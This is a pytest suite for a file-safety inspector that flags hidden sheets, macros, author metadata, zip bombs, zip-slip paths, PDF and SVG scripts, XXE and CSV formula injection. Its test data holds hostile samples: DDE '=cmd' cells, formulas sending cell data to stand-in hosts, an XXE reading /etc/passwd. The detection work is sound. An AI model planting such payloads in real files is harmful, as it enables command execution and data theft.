"""What a file hides or does is found, whatever its name; ordinary files have nothing said of them."""

import gzip
import io
import json
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest
import xlsxwriter

from tests.depth import examples
from udi.tabular.formats.file_kind import recognise_kind
from udi.tabular.safety.findings import (
    EXPLANATIONS,
    Danger,
    SafetyFinding,
    SafetySeverity,
)
from udi.tabular.safety.formulas import danger_of
from udi.tabular.safety.inspection import inspect_file

Inspect = Callable[[str, bytes], list[SafetyFinding]]


def inspected(path: Path) -> list[SafetyFinding]:
    with path.open("rb") as file:
        head = file.read(4096)
    return inspect_file(path, path.name, recognise_kind(head, path.name))


@pytest.fixture
def inspect(tmp_path: Path) -> Inspect:
    """Look at a file with these bytes."""

    def look(name: str, content: bytes) -> list[SafetyFinding]:
        path = tmp_path / name
        path.write_bytes(content)
        return inspected(path)

    return look


def dangers(findings: list[SafetyFinding]) -> set[Danger]:
    return {finding.danger for finding in findings}


def packed(files: dict[str, bytes], *, like: bytes = b"") -> bytes:
    """A zip of these files, added to another one."""
    into = io.BytesIO(like)
    with zipfile.ZipFile(into, "a", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return into.getvalue()


def workbook(*, hide: bool = False, author: str = "") -> bytes:
    into = io.BytesIO()
    book = xlsxwriter.Workbook(into, {"in_memory": True})
    book.set_properties({"author": author})
    sheet = book.add_worksheet("Données")
    other = book.add_worksheet("Salaires & primes")
    sheet.write_row(0, 0, ["nom", "montant"])
    sheet.write_row(1, 0, ["Marché", 12.5])
    sheet.write_formula(2, 1, "=SUM(B2:B2)")
    if hide:
        other.hide()
        sheet.set_row(1, None, None, {"hidden": True})
        sheet.set_column(1, 1, None, None, {"hidden": True})
        sheet.write_comment("A1", "Vérifier", {"author": "somebody"})
        sheet.write_string(3, 0, "=1+1")
        sheet.write_formula(4, 0, '=WEBSERVICE("http://elsewhere.example/?"&B2)')
    book.close()
    return into.getvalue()


def test_an_ordinary_workbook_and_table_say_nothing(inspect: Inspect) -> None:
    assert inspect("budget.xlsx", workbook()) == []
    assert (
        inspect(
            "budget.csv",
            "nom;écart;note\nMarché;-12,5;- à revoir\nÉcole;+3;+33 2 98 00 00 00\n---;=;-\n".encode(),
        )
        == []
    )


def test_what_a_workbook_hides(inspect: Inspect) -> None:
    findings = {
        finding.danger: finding
        for finding in inspect(
            "budget.xlsx", workbook(hide=True, author="Camille Kerdraon")
        )
    }

    assert set(findings) == {
        Danger.HIDDEN_SHEETS, Danger.HIDDEN_LINES, Danger.COMMENTS, Danger.AUTHOR, Danger.FORMULAS, Danger.ATTACK,
    }  # fmt: skip
    assert findings[Danger.HIDDEN_SHEETS].names == ("Salaires & primes",)
    assert findings[Danger.HIDDEN_LINES].count == 2
    assert findings[Danger.ATTACK].strength is SafetySeverity.STOP
    assert "Camille" not in json.dumps(
        [finding.as_json() for finding in findings.values()]
    )
    assert [
        SafetyFinding.from_json(json.loads(json.dumps(finding.as_json())))
        for finding in findings.values()
    ] == list(findings.values())


@pytest.mark.parametrize(
    ("part", "danger", "strength"),
    [
        ("xl/vbaProject.bin", Danger.MACROS, SafetySeverity.STOP),
        ("xl/macrosheets/sheet1.xml", Danger.MACROS, SafetySeverity.STOP),
        ("xl/externalLinks/externalLink1.xml", Danger.LINKS, SafetySeverity.WARNING),
        ("xl/connections.xml", Danger.CONNECTIONS, SafetySeverity.WARNING),
        ("xl/embeddings/oleObject1.bin", Danger.EMBEDDED, SafetySeverity.WARNING),
        (
            "xl/threadedComments/threadedComment1.xml",
            Danger.COMMENTS,
            SafetySeverity.WARNING,
        ),
        ("payload.exe", Danger.PROGRAM, SafetySeverity.STOP),
    ],
)
def test_parts_of_a_workbook(
    inspect: Inspect, part: str, danger: Danger, strength: SafetySeverity
) -> None:
    (finding,) = inspect("classeur.xlsx", packed({part: b"x"}, like=workbook()))

    assert (finding.danger, finding.strength) == (danger, strength)


def test_an_open_document(inspect: Inspect) -> None:
    content = (
        '<style:style style:name="ta2" style:family="table"><style:table-properties table:display="false"/></style:style>'
        '<table:table table:name="Paie" table:style-name="ta2"><table:table-row table:visibility="collapse">'
        "<office:annotation>…</office:annotation></table:table-row></table:table>"
    )
    files = {"mimetype": b"x", "META-INF/manifest.xml": b"<manifest/>", "content.xml": content.encode(),
             "meta.xml": b"<dc:creator>Camille Kerdraon</dc:creator>", "Basic/Standard/Module1.xml": b"x"}  # fmt: skip
    findings = inspect("paie.ods", packed(files))
    locked = inspect(
        "paie.ods",
        packed({**files, "META-INF/manifest.xml": b"<manifest:encryption-data/>"}),
    )

    assert dangers(findings) == {
        Danger.HIDDEN_SHEETS, Danger.HIDDEN_LINES, Danger.COMMENTS, Danger.MACROS, Danger.AUTHOR,
    }  # fmt: skip
    assert dangers(locked) == {Danger.PASSWORD}


FLAT = (
    '<?xml version="1.0" encoding="UTF-8"?><office:document xmlns:office="o" office:mimetype="application/vnd.oasis.opendocument.spreadsheet">'
    '<office:scripts>\n <office:script script:language="ooo:Basic">\n  <ooo:libraries xmlns:ooo="http://openoffice.org/2004/office">\n'
    "   {library}\n  </ooo:libraries>\n </office:script>\n</office:scripts>{body}</office:document>"
)
NO_MACRO = '<ooo:library-embedded ooo:name="Standard"/>'
MACRO = '<ooo:library-embedded ooo:name="Standard"><ooo:module ooo:name="M"/></ooo:library-embedded>'
HIDDEN = (
    '<style:style style:name="h" style:family="table"><style:table-properties table:display="false"/></style:style>'
    '<table:table table:name="Paie" table:style-name="h"><table:table-row table:visibility="collapse"><office:annotation/></table:table-row></table:table>'
)


@pytest.mark.parametrize(
    ("library", "body", "expected"),
    [
        (NO_MACRO, "", set()),
        (MACRO, "", {Danger.SCRIPT}),
        (NO_MACRO, HIDDEN, {Danger.HIDDEN_SHEETS, Danger.HIDDEN_LINES, Danger.COMMENTS}),
        (NO_MACRO, "<dc:creator>Camille Kerdraon</dc:creator>", {Danger.AUTHOR}),
        (NO_MACRO, '<table:table-cell table:formula="of:=HYPERLINK(&quot;http://x.example&quot;)"/>', {Danger.ATTACK}),
        (NO_MACRO, "<script>alert(1)</script>", {Danger.SCRIPT}),
    ],
)  # fmt: skip
def test_a_flat_open_document_is_looked_at_as_a_packed_one(
    inspect: Inspect, library: str, body: str, expected: set[Danger]
) -> None:
    findings = inspect("budget.fods", FLAT.format(library=library, body=body).encode())

    assert dangers(findings) == expected


def test_old_workbooks(inspect: Inspect) -> None:
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500)
    summary = bytes.fromhex("E0859FF2F94F6810AB9108002B27B3D9")
    section = (
        struct.pack("<IIII", 64, 1, 4, 16)
        + struct.pack("<II", 30, 17)
        + b"Camille Kerdraon\x00"
    )
    properties = bytes(28) + summary + struct.pack("<I", 48) + section

    assert dangers(inspect("a.xls", head + "_VBA_PROJECT".encode("utf-16-le"))) == {
        Danger.MACROS
    }
    assert dangers(
        inspect("a.xlsx", head + "EncryptedPackage".encode("utf-16-le"))
    ) == {Danger.PASSWORD}
    assert dangers(inspect("a.xls", head + properties)) == {Danger.AUTHOR}


@pytest.mark.parametrize(
    ("cell", "danger"),
    [
        ("=cmd|' /C calc'!A0", Danger.ATTACK), ("@SUM(1+9)*cmd|' /C calc'!A0", Danger.ATTACK), ("-2+3+cmd|' /C calc'!A0", Danger.ATTACK),
        ('=HYPERLINK("http://x.example?"&A1,"ici")', Danger.ATTACK), ('=IMPORTXML(CONCAT("http://x.example?",A1))', Danger.ATTACK),
        ("=1+1", Danger.FORMULAS), ("=A1", Danger.FORMULAS), ("@SUM(A1:A9)", Danger.FORMULAS), ("+SUM(A1)", Danger.FORMULAS),
        ("\t=1+1", Danger.FORMULAS), ("-12,5", None), ("+33 2 98 00 00 00", None), ("- à revoir", None), ("@mairie", None),
        ("=====", None), ("-", None), ("1,5e-3", None), ("-1.5E-3", None), ("", None), ("+ de 60 ans", None),
    ],
)  # fmt: skip
def test_formulas_and_what_is_not(cell: str, danger: Danger | None) -> None:
    assert danger_of(cell) is danger


def test_formulas_are_told_by_line(inspect: Inspect) -> None:
    content = (
        "nom;note\n"
        + "Marché;bien\n" * 3
        + "École;=A1+1\nPort;\"=cmd|' /C calc'!A0\"\n"
    )
    findings = {
        finding.danger: finding.lines
        for finding in inspect("avis.csv", content.encode())
    }

    assert findings == {Danger.FORMULAS: (5,), Danger.ATTACK: (6,)}


def test_a_line_of_a_remark_is_no_formula(inspect: Inspect) -> None:
    remark = 'id;avis;fin\n1;"à faire :\n=> revoir(le plan)\n-Port (quai)\n";=A1\n2;"=cmd|x";3\n'

    assert {finding.danger: finding.lines for finding in inspect("avis.csv", remark.encode())} == {
        Danger.FORMULAS: (5,), Danger.ATTACK: (6,),
    }  # fmt: skip
    assert dangers(inspect("avis.csv", b'id;avis\n1;5" de long\n=cmd|x;2\n')) == {
        Danger.ATTACK
    }


def test_archives(inspect: Inspect) -> None:
    nested = packed({"inside.zip": packed({"a.csv": b"a"})})
    locked = bytearray(packed({"a.csv": b"a;b\n"}))
    locked[locked.index(b"PK\x01\x02") + 8] |= 1

    assert dangers(
        inspect("zeros.zip", packed({"zeros.csv": bytes(101 * 1024**2)}))
    ) == {Danger.BOMB}
    assert dangers(
        inspect("many.zip", packed({f"{n}.csv": b"" for n in range(10_001)}))
    ) == {Danger.BOMB}
    assert dangers(inspect("slip.zip", packed({"../../evil.csv": b"a"}))) == {
        Danger.PATHS
    }
    assert dangers(inspect("slip.zip", packed({"C:\\evil.csv": b"a"}))) == {
        Danger.PATHS
    }
    assert dangers(inspect("nested.zip", nested)) == set()
    assert dangers(inspect("locked.zip", bytes(locked))) == {Danger.PASSWORD}
    assert dangers(inspect("cut.zip", nested[:-30])) == {Danger.BROKEN}
    assert dangers(inspect("zeros.csv.gz", gzip.compress(bytes(101 * 1024**2)))) == {
        Danger.BOMB
    }
    assert dangers(inspect("cut.csv.gz", b"\x1f\x8bnothing")) == {Danger.BROKEN}
    assert inspect("fine.csv.gz", gzip.compress(b"a;b\n1;2\n")) == []
    assert inspect("fine.zip", packed({"stops.txt": b"a,b\n"})) == []


def test_documents(inspect: Inspect) -> None:
    packed_script = zlib.compress(b"<< /S /JavaScript /JS (app.alert(1)) >>")
    hidden = (
        b"%PDF-1.5\n1 0 obj << /Type /ObjStm /Length 9 >>\nstream\n"
        + packed_script
        + b"\nendstream"
    )
    authored_document = (
        b"%PDF-1.4\n<< /Author (Camille Kerdraon) /Creator (Writer) >>\n"
    )

    assert dangers(
        inspect("a.pdf", b"%PDF-1.4\n<< /S /J#61vaScript /JS (app.alert(1)) >>")
    ) == {Danger.SCRIPT}
    assert dangers(inspect("a.pdf", hidden)) == {Danger.SCRIPT}
    assert dangers(inspect("a.pdf", b"%PDF-1.4\n<< /Type /EmbeddedFile >>")) == {
        Danger.EMBEDDED
    }
    assert dangers(inspect("a.pdf", b"%PDF-1.4\ntrailer << /Encrypt 5 0 R >>")) == {
        Danger.PASSWORD
    }
    assert dangers(inspect("a.pdf", authored_document)) == {Danger.AUTHOR}
    assert (
        inspect("a.pdf", b"%PDF-1.4\n<< /Author (LibreOffice 7) /Producer (x) >>") == []
    )
    assert dangers(inspect("run.csv", b"MZ\x90\x00" + bytes(100))) == {Danger.PROGRAM}
    assert dangers(inspect("run.bat", b"echo off\n")) == {Danger.PROGRAM}


@pytest.mark.parametrize("order", ["<", ">"])
def test_pictures_that_say_where(inspect: Inspect, order: str) -> None:
    def picture(tag: int, count: int = 1) -> bytes:
        main = struct.pack(f"{order}HHHIII", 1, tag, 4, count, 26, 0)
        places = struct.pack(f"{order}HHHIII", 1, 2, 5, 3, 0, 0)
        tiff = (
            (b"II*\x00" if order == "<" else b"MM\x00*")
            + struct.pack(f"{order}I", 8)
            + main
            + places
        )
        return b"\xff\xd8\xff\xe1\x00\x80Exif\x00\x00" + tiff

    assert dangers(inspect("a.jpg", picture(0x8825))) == {Danger.PLACE}
    assert dangers(inspect("a.jpg", picture(0x013B, 12))) == {Danger.AUTHOR}
    assert inspect("a.jpg", picture(0x0100)) == []
    assert (
        inspect("a.jpg", b"\xff\xd8\xff\xe1\x00\x80Exif\x00\x00II*\x00\xff\xff\xff\xff")
        == []
    )


def test_drawings_and_pages(inspect: Inspect) -> None:
    svg = b'<svg xmlns="http://www.w3.org/2000/svg">%s</svg>'

    assert (
        inspect("a.svg", svg % b'<a href="https://example.org"><circle r="4"/></a>')
        == []
    )
    assert dangers(inspect("a.svg", svg % b"<script>alert(1)</script>")) == {
        Danger.SCRIPT
    }
    assert dangers(inspect("a.svg", svg % b'<rect onload="alert(1)"/>')) == {
        Danger.SCRIPT
    }
    assert dangers(
        inspect("a.svg", svg % b'<image href="http://elsewhere.example/a.png"/>')
    ) == {Danger.OUTSIDE}
    assert dangers(inspect("a.svgz", gzip.compress(svg % b"<script/>"))) == {
        Danger.SCRIPT
    }
    assert dangers(
        inspect(
            "a.xml", b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
        )
    ) == {Danger.ENTITIES}
    (page,) = inspect("a.html", b"<!doctype html><script>1</script>")
    assert page.strength is SafetySeverity.WARNING


def test_hostile_files_are_found(shared_data: Path) -> None:
    bad = shared_data / "data/bad"
    expected = {
        "snyk_zip-slip.zip": Danger.PATHS, "snyk_zip-slip-win.zip": Danger.PATHS, "pat_etc_passwd.zip": Danger.PATHS,
        "yauzl_absolute-path-atxt.zip": Danger.PATHS, "yauzl_absolute-path-C-xt.zip": Danger.PATHS,
        "yauzl_invalid-relative-path-xt.zip": Danger.PATHS, "yauzl_strong-encryption-is-not-supported.zip": Danger.PASSWORD,
        "pat_SVG_XSS1.svg": Danger.SCRIPT, "pat_SVG_XSS2.svg": Danger.SCRIPT, "pat_SVG_XSS3.svg": Danger.SCRIPT,
        "pat_xss.svgz": Danger.SCRIPT, "pat_xss.htm": Danger.SCRIPT, "pat_ssrf_svg_image.svg": Danger.OUTSIDE,
        "pat_ssrf_svg_css_import.svg": Danger.OUTSIDE, "pat_ssrf_svg_css_link.svg": Danger.OUTSIDE, "pat_ssrf_svg_use.svg": Danger.OUTSIDE,
        "defusedxml_external.xml": Danger.ENTITIES, "defusedxml_xmlbomb.xml": Danger.ENTITIES, "pat_Classic-XXE.xml": Danger.ENTITIES,
        "payloadbox_csv-payload.txt": Danger.ATTACK,
    }  # fmt: skip
    missed = {
        name: danger
        for name, danger in expected.items()
        if danger not in dangers(inspected(bad / name))
    }

    assert missed == {}


def test_inspect_file_ends_with_findings_that_have_words_on_every_hostile_file(
    shared_data: Path,
) -> None:
    findings_by_file = {
        path.name: inspected(path)
        for path in sorted((shared_data / "data/bad").iterdir())
    }
    findings = [
        finding
        for file_findings in findings_by_file.values()
        for finding in file_findings
    ]
    words = [finding.explanation.what % finding.values for finding in findings]

    assert len(findings_by_file) > 200
    assert len(findings) > 50
    assert [text for text in words if "%(" in text or not text] == []
    assert [finding for finding in findings if finding.count < 1] == []


def test_real_tables_are_not_stopped(
    shared_data: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    findings_by_name = {
        path.name: inspected(path)
        for path in sorted((shared_data / "data/tables").iterdir())[:: examples(8, 1)]
    }
    serious = {
        name: dangers(findings)
        for name, findings in findings_by_name.items()
        if any(
            finding.strength in {SafetySeverity.STOP, SafetySeverity.QUARANTINE}
            for finding in findings
        )
    }
    with capsys.disabled():
        print(  # noqa: T201 - a figure to publish
            f"\n{len(findings_by_name)} files: {sum(map(bool, findings_by_name.values()))} with something to say"
        )
        for name, findings in findings_by_name.items():
            if findings:
                print(  # noqa: T201 - a figure to publish
                    f"  {name}: {', '.join(f'{finding.danger} {finding.count} {finding.lines}' for finding in findings)}"
                )

    assert serious == {}


def test_each_danger_has_its_words() -> None:
    assert set(EXPLANATIONS) == set(Danger)


@pytest.mark.parametrize("name", ["noms.csv.gz", "noms.zip"])
def test_a_formula_that_attacks_is_found_in_a_packed_table(
    inspect: Inspect, name: str
) -> None:
    table = b"nom;lien\nA;=cmd|'/C calc'!A0\nB;x\n"
    if name.endswith(".gz"):
        content = gzip.compress(table)
    else:
        content = packed({"noms.csv": table})

    [finding] = inspect(name, content)

    assert (finding.danger, finding.lines) == (Danger.ATTACK, (2,))
